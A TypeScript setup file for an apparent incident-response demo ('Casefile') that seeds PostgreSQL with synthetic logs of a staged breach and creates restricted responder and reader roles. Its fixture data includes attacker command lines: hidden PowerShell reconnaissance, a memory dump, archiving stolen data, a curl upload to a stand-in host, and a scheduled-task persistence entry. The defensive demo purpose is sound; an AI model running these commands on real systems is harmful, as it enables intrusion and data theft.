/**
 * The systems the demo's response actions reach, hosted on the embedded
 * PostgreSQL next to Casefile's own database:
 * - an evidence store (auth_logs, network_flows, process_events, db_audit) with the
 *   northwind-retail incident inside a realistic volume of ordinary activity;
 * - a target database, `customers`, with the compromised `support_readonly` role.
 * Casefile reaches them through least-privilege roles: a read-only evidence reader,
 * and a responder that may signal backends and change only the suspect role.
 */
import postgres from "postgres";
import { urlAs } from "@/db/roles";

export type DemoSystemNames = {
  evidenceDb: string;
  targetDb: string;
  suspectRole: string;
  readerRole: string;
  responderRole: string;
};

export const DEMO_SYSTEMS: DemoSystemNames = {
  evidenceDb: "evidence",
  targetDb: "customers",
  suspectRole: "support_readonly",
  readerRole: "casefile_evidence_reader",
  responderRole: "casefile_responder",
};

/** Connector names the demo case's requests use. */
export const DEMO_CONNECTORS = { evidence: "evidence-store", target: "db-cust-01" } as const;

export type DemoSystems = { evidenceUrl: string; targetUrl: string; suspectUrl: string };

const T0 = "2026-11-19T22:40:00Z";
const SUBJECT = "m.alvarez@northwind-retail.example";

function databaseUrl(serverUrl: string, database: string): string {
  const url = new URL(serverUrl);
  url.pathname = `/${database}`;
  return url.toString();
}

const ident = (name: string) => `"${name.replaceAll('"', '""')}"`;
const literal = (value: string) => `'${value.replaceAll("'", "''")}'`;

const EVIDENCE_SCHEMA = `
create table auth_logs (ts timestamptz not null, username text not null, src_ip inet not null,
  result text not null, method text not null, user_agent text, mfa text);
create table network_flows (ts timestamptz not null, src_ip inet not null, dst_ip inet not null,
  dst_port int not null, protocol text not null, bytes_out bigint not null, bytes_in bigint not null, host text);
create table process_events (ts timestamptz not null, host text not null, username text, pid int not null,
  process text not null, command_line text, parent text);
create table db_audit (ts timestamptz not null, database text not null, username text not null,
  client_ip inet, statement text not null, rows bigint);
`;

const EVIDENCE_INDEXES = `
create index on auth_logs (username, ts); create index on auth_logs (src_ip, ts);
create index on network_flows (src_ip, ts); create index on network_flows (dst_ip, ts); create index on network_flows (host, ts);
create index on process_events (host, ts); create index on process_events (username, ts);
create index on db_audit (username, ts); create index on db_audit (client_ip, ts); create index on db_audit (database, ts);
analyze;
`;

/** Ordinary activity over three days around the incident: n rows in all, deterministic. */
function background(n: number): string {
  const share = (f: number) => Math.floor(n * f);
  const at = `timestamptz '${T0}' - interval '24 hours' + (random() * interval '72 hours')`;
  return `
select setseed(0.4242);
insert into auth_logs
  select ${at}, 'user' || (random() * 1900)::int || '@northwind-retail.example',
    ('10.20.' || (random() * 250)::int || '.' || (1 + random() * 250)::int)::inet,
    case when random() < 0.03 then 'failure' else 'success' end,
    case when random() < 0.7 then 'sso' else 'password' end,
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'totp'
  from generate_series(1, ${share(0.4)});
insert into network_flows
  select ${at}, ('10.20.' || (random() * 250)::int || '.' || (1 + random() * 250)::int)::inet,
    ('10.30.0.' || (1 + random() * 40)::int)::inet, (array[443, 80, 53, 5432, 445])[1 + (random() * 4)::int],
    'tcp', (random() * 200000)::bigint, (random() * 2000000)::bigint, 'ws-' || lpad(((random() * 400)::int)::text, 3, '0')
  from generate_series(1, ${share(0.35)});
insert into process_events
  select ${at}, 'ws-' || lpad(((random() * 400)::int)::text, 3, '0'),
    'user' || (random() * 1900)::int || '@northwind-retail.example', (1000 + random() * 60000)::int,
    (array['chrome.exe', 'outlook.exe', 'teams.exe', 'excel.exe', 'explorer.exe'])[1 + (random() * 4)::int],
    null, 'explorer.exe'
  from generate_series(1, ${share(0.15)});
insert into db_audit
  select ${at}, (array['customers', 'orders', 'crm'])[1 + (random() * 2)::int],
    (array['app_orders', 'app_crm', 'reporting'])[1 + (random() * 2)::int],
    ('10.30.1.' || (1 + random() * 20)::int)::inet,
    (array['SELECT', 'INSERT', 'UPDATE'])[1 + (random() * 2)::int] || ' …', (random() * 50)::bigint
  from generate_series(1, ${n - share(0.4) - share(0.35) - share(0.15)});
`;
}

/** The incident itself, matching the demo case's timeline (minutes after T0). */
const INCIDENT = `
insert into auth_logs
  select timestamptz '${T0}' + (g * interval '1.2 seconds'), 'user' || (g % 1912) || '@northwind-retail.example',
    ('198.51.100.' || (1 + g % 60))::inet, 'failure', 'password', 'python-requests/2.31', 'none'
  from generate_series(1, 2000) g;
insert into auth_logs values
  (timestamptz '${T0}' - interval '20 hours', '${SUBJECT}', '10.20.4.17', 'success', 'password', 'Mozilla/5.0 (Windows NT 10.0)', 'none'),
  (timestamptz '${T0}' - interval '14 hours', '${SUBJECT}', '10.20.4.17', 'success', 'password', 'Mozilla/5.0 (Windows NT 10.0)', 'none'),
  (timestamptz '${T0}' + interval '6 minutes', '${SUBJECT}', '198.51.100.23', 'failure', 'password', 'python-requests/2.31', 'none'),
  (timestamptz '${T0}' + interval '6 minutes 20 seconds', '${SUBJECT}', '198.51.100.23', 'failure', 'password', 'python-requests/2.31', 'none'),
  (timestamptz '${T0}' + interval '6 minutes 41 seconds', '${SUBJECT}', '198.51.100.23', 'failure', 'password', 'python-requests/2.31', 'none'),
  (timestamptz '${T0}' + interval '41 minutes', '${SUBJECT}', '203.0.113.47', 'success', 'password', 'Mozilla/5.0 (X11; Linux x86_64)', 'none'),
  (timestamptz '${T0}' + interval '52 minutes', '${SUBJECT}', '203.0.113.47', 'success', 'vpn', 'OpenVPN 2.6', 'none'),
  (timestamptz '${T0}' + interval '870 minutes', '${SUBJECT}', '203.0.113.47', 'success', 'vpn', 'OpenVPN 2.6', 'none'),
  (timestamptz '${T0}' + interval '874 minutes', '${SUBJECT}', '10.20.0.5', 'password_reset', 'helpdesk', null, 'none');
insert into network_flows values
  (timestamptz '${T0}' + interval '52 minutes', '203.0.113.47', '10.0.0.10', 1194, 'udp', 48000000, 310000000, 'vpn-gw-01'),
  (timestamptz '${T0}' + interval '58 minutes', '10.8.0.23', '10.40.17.17', 3389, 'tcp', 12000000, 95000000, 'ws-sup-017'),
  (timestamptz '${T0}' + interval '71 minutes', '10.40.17.17', '10.30.0.0', 5432, 'tcp', 380000, 120000, 'ws-sup-017'),
  (timestamptz '${T0}' + interval '97 minutes', '10.40.17.17', '10.30.0.15', 5432, 'tcp', 91000, 1480000000, 'ws-sup-017'),
  (timestamptz '${T0}' + interval '166 minutes', '10.40.17.17', '192.0.2.80', 443, 'tcp', 2140000000, 880000, 'ws-sup-017'),
  (timestamptz '${T0}' + interval '1010 minutes', '10.40.17.17', '192.0.2.80', 443, 'tcp', 310000000, 120000, 'ws-sup-017');
insert into process_events values
  (timestamptz '${T0}' + interval '63 minutes', 'ws-sup-017', '${SUBJECT}', 7712, 'powershell.exe', 'powershell -nop -w hidden -c "whoami /all; ipconfig /all"', 'explorer.exe'),
  (timestamptz '${T0}' + interval '66 minutes', 'ws-sup-017', '${SUBJECT}', 7790, 'net.exe', 'net group "Domain Admins" /domain', 'powershell.exe'),
  (timestamptz '${T0}' + interval '79 minutes', 'ws-sup-017', '${SUBJECT}', 8120, 'svc.exe', 'C:\\Users\\Public\\svc.exe', 'powershell.exe'),
  (timestamptz '${T0}' + interval '81 minutes', 'ws-sup-017', '${SUBJECT}', 8120, 'svc.exe', 'svc.exe --pid 712 --write C:\\Users\\Public\\l.dmp', 'powershell.exe'),
  (timestamptz '${T0}' + interval '97 minutes', 'ws-sup-017', '${SUBJECT}', 8301, 'psql.exe', 'psql -h db-cust-01 -U support_readonly customers', 'powershell.exe'),
  (timestamptz '${T0}' + interval '152 minutes', 'ws-sup-017', '${SUBJECT}', 8450, '7z.exe', '7z a -p c:\\users\\public\\c.7z c:\\users\\public\\exp\\*', 'powershell.exe'),
  (timestamptz '${T0}' + interval '166 minutes', 'ws-sup-017', '${SUBJECT}', 8466, 'curl.exe', 'curl -T c.7z https://files-drop.example/u/', 'powershell.exe'),
  (timestamptz '${T0}' + interval '205 minutes', 'ws-sup-017', '${SUBJECT}', 8502, 'schtasks.exe', 'schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon', 'powershell.exe');
insert into db_audit values
  (timestamptz '${T0}' + interval '97 minutes', 'customers', 'support_readonly', '10.40.17.17', 'connection authorized', null),
  (timestamptz '${T0}' + interval '99 minutes', 'customers', 'support_readonly', '10.40.17.17', 'SELECT table_name FROM information_schema.tables', 48),
  (timestamptz '${T0}' + interval '104 minutes', 'customers', 'support_readonly', '10.40.17.17', 'SELECT * FROM customers', 1284113),
  (timestamptz '${T0}' + interval '131 minutes', 'customers', 'support_readonly', '10.40.17.17', 'SELECT * FROM orders WHERE created_at > now() - interval ''12 months''', 3920441);
`;

/**
 * Creates (once) the evidence store and the target database with their roles, and
 * returns connection URLs: the evidence reader's, the responder's, and the suspect
 * role's (for the demo runner's session). Role passwords are set on every call.
 */
export async function setUpDemoSystems(
  adminUrl: string,
  options: {
    names?: DemoSystemNames;
    passwords: { reader: string; responder: string; suspect: string };
    backgroundRows: number;
  },
): Promise<DemoSystems> {
  const n = options.names ?? DEMO_SYSTEMS;
  const admin = postgres(adminUrl, { max: 1, onnotice: () => {} });
  try {
    const role = async (name: string, password: string, extra = "") => {
      const [found] = await admin`select 1 as found from pg_roles where rolname = ${name}`;
      await admin.unsafe(
        `${found ? "alter" : "create"} role ${ident(name)} with login password ${literal(password)} ${extra}`,
      );
    };
    await role(n.suspectRole, options.passwords.suspect);
    await role(n.readerRole, options.passwords.reader);
    await role(n.responderRole, options.passwords.responder, "createrole");
    // Signal (terminate) other roles' backends, and see what they were running for the record.
    await admin.unsafe(`grant pg_signal_backend, pg_read_all_stats to ${ident(n.responderRole)}`);
    // ADMIN only: the responder may change the suspect role, without acting as it.
    await admin.unsafe(
      `grant ${ident(n.suspectRole)} to ${ident(n.responderRole)} with admin option, inherit false, set false`,
    );
    const [hasEvidence] = await admin`select 1 as found from pg_database where datname = ${n.evidenceDb}`;
    if (!hasEvidence) {
      await admin.unsafe(`create database ${ident(n.evidenceDb)}`);
      const ev = postgres(databaseUrl(adminUrl, n.evidenceDb), { max: 1, onnotice: () => {} });
      try {
        await ev.begin(async (tx) => {
          await tx.unsafe(EVIDENCE_SCHEMA);
          await tx.unsafe(background(options.backgroundRows));
          await tx.unsafe(INCIDENT);
          await tx.unsafe(
            `grant select on auth_logs, network_flows, process_events, db_audit to ${ident(n.readerRole)}`,
          );
        });
        await ev.unsafe(EVIDENCE_INDEXES);
      } finally {
        await ev.end();
      }
      await admin.unsafe(
        `alter role ${ident(n.readerRole)} in database ${ident(n.evidenceDb)} set default_transaction_read_only = on`,
      );
    }
    const [hasTarget] = await admin`select 1 as found from pg_database where datname = ${n.targetDb}`;
    if (!hasTarget) {
      await admin.unsafe(`create database ${ident(n.targetDb)}`);
      const target = postgres(databaseUrl(adminUrl, n.targetDb), { max: 1, onnotice: () => {} });
      try {
        await target.unsafe(`
          create table customers (id int primary key, name text not null, email text not null, city text);
          insert into customers select g, 'Customer ' || g, 'customer' || g || '@example.com',
            (array['Leeds', 'Lyon', 'Porto', 'Graz'])[1 + g % 4] from generate_series(1, 2000) g;
          grant select on customers to ${ident(n.suspectRole)};`);
      } finally {
        await target.end();
      }
    }
    const at = (db: string, user: string, password: string) =>
      urlAs(databaseUrl(adminUrl, db), user, password);
    return {
      evidenceUrl: at(n.evidenceDb, n.readerRole, options.passwords.reader),
      targetUrl: at(n.targetDb, n.responderRole, options.passwords.responder),
      suspectUrl: at(n.targetDb, n.suspectRole, options.passwords.suspect),
    };
  } finally {
    await admin.end();
  }
}
